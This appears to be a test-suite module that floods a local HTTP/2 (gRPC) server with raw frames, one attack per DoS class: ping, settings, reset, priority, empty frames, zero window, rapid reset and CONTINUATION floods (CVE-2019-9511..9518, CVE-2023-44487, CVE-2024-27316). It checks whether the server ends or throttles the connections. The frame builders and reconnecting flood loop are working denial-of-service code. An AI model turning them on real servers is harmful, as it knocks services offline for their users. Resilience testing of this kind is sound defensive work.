"""HTTP/2 attacks on a raw socket, one per class of CVE-2019-9511..9518, CVE-2023-44487 and CVE-2024-27316.

The frames are built with the ``h2`` library's own layers (h2's client for
the preface and SETTINGS, hyperframe for every frame, hpack for header
blocks): another implementation than the server's. Header blocks are
stateless (static-table entries and literals that are never indexed), so
one block is valid on any stream of any connection.

An attack is data: what a connection opens with, then the chunks it floods
with, and whether it reads what the server sends. :func:`run` plays one
with blocking sockets, reconnecting whenever the server ends a connection,
as an attacker would, until its time is up; one that never reads also
shrinks its receive buffer, so the server's unread output stays in the
server rather than in the kernel's buffers. It reports whether the server
ended connections (EOF or reset) or throttled one (a write that could not
go out for THROTTLE_S).

``python -m tests.h2attack NAME PORT SECONDS`` runs one in a process of its
own (the suite's bystanders must not wait on its Python for the GIL), niced
as if it ran on another machine: it prints ``ready``, starts on a line read
from stdin, and prints its :class:`Outcome` as JSON.
"""

from __future__ import annotations

import dataclasses
import itertools
import json
import os
import socket
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

import h2.config
import h2.connection
from hpack import Encoder
from hpack.struct import NeverIndexedHeaderTuple
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from tests.h2raw import message

ECHO, HOLD = b"/t.T/Echo", b"/t.T/Hold"
# A write that cannot go out for this long: the server stopped reading this connection.
THROTTLE_S = 0.3
# How much longer than asked an attack goes on while the server has neither ended nor throttled it.
PATIENCE = 3
# The receive buffer of an attacker that never reads: what the server writes stays in the server.
NO_READ_BUFFER = 4096
MAX_WINDOW = 2**31 - 1


def block(path: bytes, *extra: tuple[bytes, bytes]) -> bytes:
    """A request's header block that changes no HPACK table: valid on every stream of every connection."""
    headers = [(b":method", b"POST"), (b":scheme", b"http"), NeverIndexedHeaderTuple(b":path", path),
               NeverIndexedHeaderTuple(b":authority", b"abuse"),
               NeverIndexedHeaderTuple(b"content-type", b"application/grpc"), NeverIndexedHeaderTuple(b"te", b"trailers"),
               *extra]
    return bytes(Encoder().encode(headers, huffman=False))


def preface(**settings: int) -> bytes:
    """A client's preface and SETTINGS (h2's), then ``settings`` and an acknowledgement of the server's, sent blindly."""
    client = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    client.initiate_connection()
    ours = {getattr(SettingsFrame, k.upper()): v for k, v in settings.items()}
    return (bytes(client.data_to_send()) + (bytes(SettingsFrame(0, settings=ours).serialize()) if ours else b"")
            + bytes(SettingsFrame(0, flags=["ACK"]).serialize()))


def headers(stream_id: int, payload: bytes, *, end_stream: bool = False, end_headers: bool = True) -> bytes:
    flags = (["END_STREAM"] if end_stream else []) + (["END_HEADERS"] if end_headers else [])
    return bytes(HeadersFrame(stream_id, data=payload, flags=flags).serialize())


def data(stream_id: int, payload: bytes, *, end_stream: bool = False) -> bytes:
    """``payload`` as DATA frames of at most 16 KB (the least SETTINGS_MAX_FRAME_SIZE)."""
    pieces = [payload[at:at + 16_384] for at in range(0, len(payload), 16_384)] or [b""]
    return b"".join(bytes(DataFrame(stream_id, data=piece, flags=["END_STREAM"] if end_stream and i == len(pieces) - 1
                                    else []).serialize()) for i, piece in enumerate(pieces))


def streams(first: int = 1) -> Iterator[int]:
    return itertools.count(first, 2)


@dataclass(frozen=True)
class Attack:
    """One class of abuse: its opening bytes, its flood, and how the attacker behaves."""

    name: str
    cve: str
    opening: Callable[[], bytes]
    flood: Callable[[], Iterator[bytes]]  # endless chunks; a fresh iterator per connection
    reads: bool = False  # reads (and drops) what the server sends; else never reads
    held_streams: int = 0  # streams the opening holds (their memory is the attack's)


def _repeat(chunk: bytes) -> Callable[[], Iterator[bytes]]:
    return lambda: itertools.repeat(chunk)


def _per_stream(frames: Callable[[int], bytes], per_chunk: int = 200, first: int = 1) -> Callable[[], Iterator[bytes]]:
    """Chunks of ``per_chunk`` streams' frames each, on new stream ids."""
    def chunks() -> Iterator[bytes]:
        ids = streams(first)
        while True:
            yield b"".join(frames(next(ids)) for _ in range(per_chunk))
    return chunks


HOLD_BLOCK = block(HOLD)
# CVE-2019-9516's 0-length headers: a literal without indexing, a new name of 0 bytes, a value of 0 bytes.
EMPTY_HEADERS = HOLD_BLOCK + b"\x00\x00\x00" * 1_000
BIG = message(b"\x0a\x80\x80\x02" + b"x" * 32_768)  # a BytesValue of 32 KB: Echo answers 64 KB
DRIBBLED = range(1, 20, 2)

ATTACKS = [
    Attack("ping", "CVE-2019-9512", preface,
           _repeat(bytes(PingFrame(0, opaque_data=b"abusive!").serialize()) * 1_000)),
    Attack("settings", "CVE-2019-9515", preface,
           _repeat(bytes(SettingsFrame(0).serialize()) * 1_000)),
    Attack("reset", "CVE-2019-9514", preface,  # each stream earns a RST_STREAM: a WINDOW_UPDATE of 0 on it
           _per_stream(lambda s: headers(s, HOLD_BLOCK) + bytes(WindowUpdateFrame(s, window_increment=0).serialize()))),
    Attack("empty frames", "CVE-2019-9518", lambda: preface() + headers(1, HOLD_BLOCK),
           _repeat(bytes(DataFrame(1, data=b"").serialize()) * 1_000)),
    Attack("priority", "CVE-2019-9513", preface,
           _per_stream(lambda s: bytes(PriorityFrame(s, depends_on=s + 2, stream_weight=16).serialize()), 1_000)),
    Attack("empty headers", "CVE-2019-9516", preface,
           _per_stream(lambda s: headers(s, EMPTY_HEADERS, end_stream=True), 20), reads=True),
    Attack("no read", "CVE-2019-9517",  # replies of 64 KB into a window opened wide, never read
           lambda: preface(initial_window_size=MAX_WINDOW) + bytes(
               WindowUpdateFrame(0, window_increment=MAX_WINDOW - 65_535).serialize()),
           _per_stream(lambda s: headers(s, block(ECHO)) + data(s, BIG, end_stream=True), 10)),
    Attack("data dribble", "CVE-2019-9511",  # 64 KB replies through 1-byte windows, opened a byte at a time
           lambda: preface(initial_window_size=1) + b"".join(
               headers(s, block(ECHO)) + data(s, BIG, end_stream=True) for s in DRIBBLED),
           _repeat(b"".join(bytes(WindowUpdateFrame(s, window_increment=1).serialize()) for s in (0, *DRIBBLED)) * 100)),
    Attack("zero window", "CVE-2019-9517",  # replies into a window never opened (grpcio's ExecuteBatchError)
           lambda: preface(initial_window_size=0),
           _per_stream(lambda s: headers(s, block(ECHO)) + data(s, BIG, end_stream=True), 10), reads=True),
    Attack("rapid reset", "CVE-2023-44487", preface,
           _per_stream(lambda s: headers(s, HOLD_BLOCK) + bytes(RstStreamFrame(s, error_code=8).serialize())),
           reads=True),
    Attack("continuation", "CVE-2024-27316", lambda: preface() + headers(1, HOLD_BLOCK[:3], end_headers=False),
           _repeat(bytes(ContinuationFrame(1, data=b"\x00\x01x\x01y").serialize()) * 1_000), reads=True),
    Attack("held streams", "-", lambda: preface() + b"".join(headers(s, HOLD_BLOCK) for s in range(1, 4_000, 2)),
           lambda: itertools.repeat(b""), reads=True, held_streams=2_000),
]


@dataclass
class Outcome:
    connections: int = 0
    ended: int = 0  # connections the server closed or reset
    throttled: int = 0  # connections whose writes the server stopped taking
    sent: int = 0
    errors: list[str] = field(default_factory=list)


def _drain(sock: socket.socket, eof: threading.Event) -> None:
    """Read and drop what the server sends until it ends the connection (or we close it)."""
    while True:
        try:
            if not sock.recv(65_536):
                break
        except TimeoutError:  # the socket's write timeout applies to reads too: nothing came, read on
            continue
        except OSError:
            break
    eof.set()


def run(port: int, attack: Attack, seconds: float) -> Outcome:
    """Play ``attack`` on 127.0.0.1:``port`` for ``seconds``, reconnecting whenever the server ends it, and on, up
    to PATIENCE times as long, until the server has ended or throttled a connection (a loaded machine's server
    takes longer to fill its socket's buffers with answers nobody reads)."""
    outcome = Outcome()
    start = time.monotonic()

    def going() -> bool:
        elapsed = time.monotonic() - start
        return elapsed < seconds or (elapsed < PATIENCE * seconds and not (outcome.ended or outcome.throttled)
                                     and not attack.held_streams)

    while going():
        sock = socket.socket()
        if not attack.reads:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, NO_READ_BUFFER)
        sock.connect(("127.0.0.1", port))
        sock.settimeout(THROTTLE_S)
        outcome.connections += 1
        eof = threading.Event()
        if attack.reads:
            threading.Thread(target=_drain, args=(sock, eof), daemon=True).start()
        try:
            sock.sendall(attack.opening())
            for chunk in attack.flood():
                if not going() or eof.is_set():
                    break
                if chunk:
                    sock.sendall(chunk)
                    outcome.sent += len(chunk)
                else:
                    eof.wait(0.05)
            if eof.is_set():
                outcome.ended += 1
        except TimeoutError:
            outcome.throttled += 1
            eof.wait(max(0.0, seconds - (time.monotonic() - start)))  # held open, unread, until the attack's end
            if eof.is_set():
                outcome.ended += 1
        except (ConnectionResetError, BrokenPipeError):
            outcome.ended += 1
        except OSError as exc:
            outcome.errors.append(repr(exc))
        finally:
            sock.close()
    return outcome


def main() -> None:
    os.nice(10)  # an attacker's own CPU is not the server's: ours yields it to the server and the bystanders
    name, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    (attack,) = [a for a in ATTACKS if a.name == name]
    print("ready", flush=True)
    sys.stdin.readline()
    print(json.dumps(dataclasses.asdict(run(port, attack, seconds))), flush=True)


if __name__ == "__main__":
    main()
